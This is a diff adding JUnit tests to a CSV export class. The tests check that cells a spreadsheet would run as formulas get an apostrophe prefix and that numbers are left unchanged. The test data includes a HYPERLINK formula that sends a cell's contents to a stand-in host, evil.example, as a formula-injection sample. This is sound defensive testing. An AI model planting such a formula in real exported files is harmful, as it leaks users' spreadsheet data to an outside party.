@@ -2,7 +2,12 @@ package org.learningledger.query.history;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.io.IOException;
 import java.util.Arrays;
+import java.util.List;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
+import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.Test;
 
 class ExportLineTest {
@@ -16,5 +21,21 @@ class ExportLineTest {
     void givenCommasQuotesAndLineBreaks_thenQuotedWithQuotesDoubled() {
         assertThat(ExportLine.csv(Arrays.asList("a,b", "say \"hi\"", "two\nlines", "cr\rhere")))
                 .isEqualTo("\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\rhere\"\r\n");
+    }
+
+    @Test
+    void givenTextsASpreadsheetWouldRunAsFormulas_thenEachIsPrefixedWithAnApostropheAndKeptWhole() throws IOException {
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+        List<String> texts = List.of(hyperlink, "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", "a=1", "-");
+
+        CSVRecord read = CSVParser.parse(ExportLine.csv(texts), CSVFormat.RFC4180).getRecords().get(0);
+
+        assertThat(read.toList()).containsExactly("'" + hyperlink, "'+1+2", "'-2+3", "'@SUM(A1)", "'\tcmd", "'\r=1",
+                "a=1", "'-");
+    }
+
+    @Test
+    void givenNumbers_thenNotTouched() {
+        assertThat(ExportLine.csv(Arrays.asList(-3, 2))).isEqualTo("-3,2\r\n");
     }
 }
